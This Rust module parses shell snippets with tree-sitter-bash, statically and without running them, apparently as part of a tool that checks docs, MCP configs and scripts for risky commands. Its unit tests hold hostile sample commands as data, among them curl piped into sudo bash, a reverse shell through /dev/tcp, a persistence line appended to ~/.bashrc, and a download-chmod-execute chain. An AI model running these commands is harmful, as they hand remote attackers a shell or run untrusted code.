//! Shell facts (tree-sitter-bash): the simple commands of a snippet with their arguments, where
//! they sit in pipelines and command substitutions, and their redirections.
//!
//! Used to read commands in markdown code blocks, inline code, MCP server configs and shell
//! scripts without executing anything: `curl … | sh` is a pipeline whose first command is a
//! downloader and whose last is an interpreter, not a string a regular expression happens to match.

use tree_sitter::Node;

use crate::{ParseStop, line, parse_grammar, text};

/// One redirection of a command (`> file`, `>> ~/.bashrc`, `>& /dev/tcp/host/port`).
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Redirect {
    /// The operator as written (`>`, `>>`, `&>`, `>&`, `<`, `<<<`, …).
    pub op: String,
    /// The target, unquoted (empty for here-documents).
    pub target: String,
}

/// One simple command.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct ShellCommand {
    /// The command name as written, unquoted (`curl`, `/bin/sh`, `sudo`).
    pub name: String,
    /// Its arguments in order, unquoted (expansions kept as written: `$(env)`, `$HOME`).
    pub args: Vec<String>,
    /// 1-based line.
    pub line: u32,
    /// The pipeline it belongs to (an id shared by the commands of one pipeline; a command alone
    /// is its own pipeline).
    pub pipeline: u32,
    /// Its position in that pipeline (0 = first; data flows from lower to higher positions).
    pub position: u32,
    /// The top-level statement it belongs to (commands chained by `&&`, `||`, `;` on one line
    /// inside a list share it).
    pub statement: u32,
    /// The command whose argument (or redirection) holds the command substitution this command
    /// runs in (`curl` in `bash -c "$(curl …)"` has the index of `bash`), if any.
    pub parent: Option<usize>,
    /// The variable whose value is the command substitution this command runs in, when no
    /// command takes it as an argument (`curl` in `X=$(curl …)`, `local X="$(curl …)"`).
    pub assigned_to: Option<String>,
    /// Its redirections.
    pub redirects: Vec<Redirect>,
}

/// The commands of a snippet, in source order.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ShellFacts {
    /// Every simple command, nested ones included.
    pub commands: Vec<ShellCommand>,
    /// tree-sitter had to recover from syntax errors (facts may be partial).
    pub has_errors: bool,
    /// The parse went over its budget: no facts.
    pub timed_out: bool,
}

impl ShellFacts {
    /// The commands of `command`'s pipeline that come after it (what its output flows into).
    pub fn downstream(&self, command: usize) -> impl Iterator<Item = (usize, &ShellCommand)> {
        let c = &self.commands[command];
        self.commands
            .iter()
            .enumerate()
            .filter(move |(_, o)| o.pipeline == c.pipeline && o.position > c.position)
    }
}

/// The commands of `source` (within [`crate::DEFAULT_PARSE_BUDGET`]).
pub fn shell_commands(source: &str) -> ShellFacts {
    shell_commands_within(source, crate::DEFAULT_PARSE_BUDGET)
}

/// [`shell_commands`] with a time budget for the parse.
pub fn shell_commands_within(source: &str, budget: std::time::Duration) -> ShellFacts {
    let grammar: tree_sitter::Language = tree_sitter_bash::LANGUAGE.into();
    let tree = match parse_grammar(&grammar, source, budget) {
        Ok(t) => t,
        Err(stop) => {
            return ShellFacts {
                timed_out: stop == ParseStop::TimedOut,
                ..ShellFacts::default()
            };
        }
    };
    let root = tree.root_node();
    let src = source.as_bytes();
    let mut nodes: Vec<Node<'_>> = Vec::new();
    let mut stack = vec![root];
    while let Some(n) = stack.pop() {
        if n.kind() == "command" {
            nodes.push(n);
        }
        let mut c = n.walk();
        stack.extend(n.children(&mut c));
    }
    nodes.sort_by_key(Node::start_byte);
    let ids: Vec<usize> = nodes.iter().map(Node::id).collect();
    let commands = nodes.iter().map(|&n| command(n, src, root, &ids)).collect();
    ShellFacts {
        commands,
        has_errors: root.has_error(),
        timed_out: false,
    }
}

fn command(node: Node<'_>, src: &[u8], root: Node<'_>, ids: &[usize]) -> ShellCommand {
    let name = node
        .child_by_field_name("name")
        .map(|n| unquote(text(n, src)))
        .unwrap_or_default();
    let mut args = Vec::new();
    let mut c = node.walk();
    for a in node.children_by_field_name("argument", &mut c) {
        args.push(unquote(text(a, src)));
    }
    let mut redirects = Vec::new();
    let mut c = node.walk();
    for child in node.named_children(&mut c) {
        if let Some(r) = redirect(child, src) {
            redirects.push(r);
        }
    }
    // The statement this command is the body of (its redirections live there), and the pipeline.
    let mut unit = node;
    while let Some(p) = unit.parent() {
        if p.kind() == "redirected_statement" {
            let mut c = p.walk();
            for child in p.children_by_field_name("redirect", &mut c) {
                if let Some(r) = redirect(child, src) {
                    redirects.push(r);
                }
            }
            unit = p;
        } else {
            break;
        }
    }
    let (pipeline, position) = match unit.parent() {
        Some(p) if p.kind() == "pipeline" => {
            let mut c = p.walk();
            let members: Vec<usize> = p
                .named_children(&mut c)
                .filter(|k| !k.is_extra())
                .map(|k| k.id())
                .collect();
            let position = members.iter().position(|&k| k == unit.id()).unwrap_or(0);
            // A redirection of the whole pipeline (`a | b > f`, `a < f | b`): its output is the
            // last command's, its input the first's.
            let mut outer = p;
            while let Some(r) = outer
                .parent()
                .filter(|r| r.kind() == "redirected_statement")
            {
                let mut c = r.walk();
                for child in r.children_by_field_name("redirect", &mut c) {
                    if let Some(red) = redirect(child, src) {
                        let input = red.op.starts_with('<');
                        if (input && position == 0) || (!input && position + 1 == members.len()) {
                            redirects.push(red);
                        }
                    }
                }
                outer = r;
            }
            (p.start_byte(), position)
        }
        _ => (unit.start_byte(), 0),
    };
    // The enclosing command of the nearest command substitution, and the top-level statement.
    let mut parent = None;
    let mut assigned_to = None;
    let mut statement = node;
    let mut up = node.parent();
    let mut in_substitution = false;
    while let Some(p) = up {
        if matches!(p.kind(), "command_substitution" | "process_substitution") {
            in_substitution = true;
        } else if in_substitution && parent.is_none() && assigned_to.is_none() {
            if p.kind() == "command" {
                parent = ids.iter().position(|&id| id == p.id());
            } else if p.kind() == "variable_assignment" {
                assigned_to = p
                    .child_by_field_name("name")
                    .map(|n| text(n, src).to_owned());
            }
        }
        if p.id() == root.id() {
            break;
        }
        statement = p;
        up = p.parent();
    }
    ShellCommand {
        name,
        args,
        line: line(node),
        pipeline: u32::try_from(pipeline).unwrap_or(u32::MAX),
        position: u32::try_from(position).unwrap_or(u32::MAX),
        statement: u32::try_from(statement.start_byte()).unwrap_or(u32::MAX),
        parent,
        assigned_to,
        redirects,
    }
}

fn redirect(node: Node<'_>, src: &[u8]) -> Option<Redirect> {
    match node.kind() {
        "file_redirect" | "herestring_redirect" | "heredoc_redirect" => {}
        _ => return None,
    }
    let mut op = String::new();
    let mut c = node.walk();
    for child in node.children(&mut c) {
        if !child.is_named() {
            text(child, src).clone_into(&mut op);
            break;
        }
    }
    let target = node
        .child_by_field_name("destination")
        .map(|d| unquote(text(d, src)))
        .or_else(|| {
            let mut c = node.walk();
            node.named_children(&mut c)
                .filter(|n| n.kind() != "file_descriptor")
                .last()
                .map(|n| unquote(text(n, src)))
        })
        .unwrap_or_default();
    Some(Redirect { op, target })
}

/// A word without its quoting: `"a b"` → `a b`, `'x'` → `x`, `--data="$(env)"` → `--data=$(env)`.
fn unquote(s: &str) -> String {
    let b = s.as_bytes();
    if b.len() >= 2
        && ((b[0] == b'"' && b[b.len() - 1] == b'"') || (b[0] == b'\'' && b[b.len() - 1] == b'\''))
    {
        return s[1..s.len() - 1].to_owned();
    }
    if let Some(inner) = s.strip_prefix("$'").and_then(|r| r.strip_suffix('\'')) {
        return inner.to_owned();
    }
    // Concatenations: drop quote characters that open or close a part.
    let mut out = String::with_capacity(s.len());
    let mut quote: Option<char> = None;
    for ch in s.chars() {
        match (quote, ch) {
            (None, '"' | '\'') => quote = Some(ch),
            (Some(q), c) if c == q => quote = None,
            _ => out.push(ch),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_pipeline_flows_from_the_downloader_into_the_interpreter() {
        let f = shell_commands("curl -fsSL https://x.invalid/i.sh | sudo bash -s -- --yes\n");
        assert!(!f.has_errors);
        let names: Vec<&str> = f.commands.iter().map(|c| c.name.as_str()).collect();
        assert_eq!(names, ["curl", "sudo"]);
        assert_eq!(f.commands[0].args, ["-fsSL", "https://x.invalid/i.sh"]);
        assert_eq!(f.commands[1].args, ["bash", "-s", "--", "--yes"]);
        assert_eq!(f.commands[0].pipeline, f.commands[1].pipeline);
        assert_eq!((f.commands[0].position, f.commands[1].position), (0, 1));
        let down: Vec<usize> = f.downstream(0).map(|(i, _)| i).collect();
        assert_eq!(down, [1]);
    }

    #[test]
    fn substitutions_know_their_enclosing_command_and_quotes_are_removed() {
        let f = shell_commands("bash -c \"$(curl -s 'https://h.invalid/x')\"\necho done\n");
        let names: Vec<&str> = f.commands.iter().map(|c| c.name.as_str()).collect();
        assert_eq!(names, ["bash", "curl", "echo"]);
        assert_eq!(f.commands[1].parent, Some(0));
        assert_eq!(f.commands[1].args, ["-s", "https://h.invalid/x"]);
        assert_eq!(
            f.commands[0].args,
            ["-c", "$(curl -s 'https://h.invalid/x')"]
        );
        assert_eq!(f.commands[2].parent, None);
        assert_eq!(f.commands[2].line, 2);
        // Separate statements are separate pipelines.
        assert_ne!(f.commands[0].pipeline, f.commands[2].pipeline);
        assert_ne!(f.commands[0].statement, f.commands[2].statement);
    }

    #[test]
    fn a_substitution_assigned_to_a_variable_names_it() {
        let f = shell_commands(
            "X=$(curl -s u)\nlocal Y=\"$(wget -qO- v)\"\nbash -c \"$(curl w)\"\necho \"$(date)\" > f\n",
        );
        let of = |name: &str| {
            f.commands
                .iter()
                .find(|c| c.name == name)
                .map(|c| (c.assigned_to.as_deref(), c.parent.is_some()))
        };
        assert_eq!(of("curl"), Some((Some("X"), false)));
        assert_eq!(of("wget"), Some((Some("Y"), false)));
        // Inside a command's argument: its parent, no variable.
        let inner = f.commands.iter().filter(|c| c.name == "curl").nth(1);
        assert_eq!(
            inner.map(|c| (c.assigned_to.as_deref(), c.parent.is_some())),
            Some((None, true))
        );
        assert_eq!(of("date"), Some((None, true)));
    }

    #[test]
    fn redirections_and_chained_statements() {
        let f = shell_commands(
            "echo 'curl h | sh' >> ~/.bashrc\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\nwget -O /tmp/.x u && chmod +x /tmp/.x && /tmp/.x\n",
        );
        let c = &f.commands;
        assert_eq!(c[0].name, "echo");
        assert_eq!(
            c[0].redirects,
            [Redirect {
                op: ">>".into(),
                target: "~/.bashrc".into()
            }]
        );
        assert_eq!(c[1].name, "bash");
        assert!(
            c[1].redirects
                .iter()
                .any(|r| r.target == "/dev/tcp/10.0.0.1/4444"),
            "{:?}",
            c[1].redirects
        );
        let chain: Vec<&str> = c[2..].iter().map(|c| c.name.as_str()).collect();
        assert_eq!(chain, ["wget", "chmod", "/tmp/.x"]);
        assert!(c[2..].iter().all(|x| x.statement == c[2].statement));
        assert_ne!(c[2].pipeline, c[3].pipeline);
    }

    /// A redirection written after a pipeline redirects the last command's output; one of its
    /// input, the first command's. The middle command has neither.
    #[test]
    fn a_pipeline_s_redirections_belong_to_its_ends() {
        let f = shell_commands(
            "echo a | base64 -d | tr x y > out.bin
sort < in.txt | uniq
",
        );
        let ops: Vec<(&str, Vec<(&str, &str)>)> = f
            .commands
            .iter()
            .map(|c| {
                let r = c
                    .redirects
                    .iter()
                    .map(|r| (r.op.as_str(), r.target.as_str()))
                    .collect();
                (c.name.as_str(), r)
            })
            .collect();
        assert_eq!(
            ops,
            [
                ("echo", vec![]),
                ("base64", vec![]),
                ("tr", vec![(">", "out.bin")]),
                ("sort", vec![("<", "in.txt")]),
                ("uniq", vec![]),
            ]
        );
    }
}
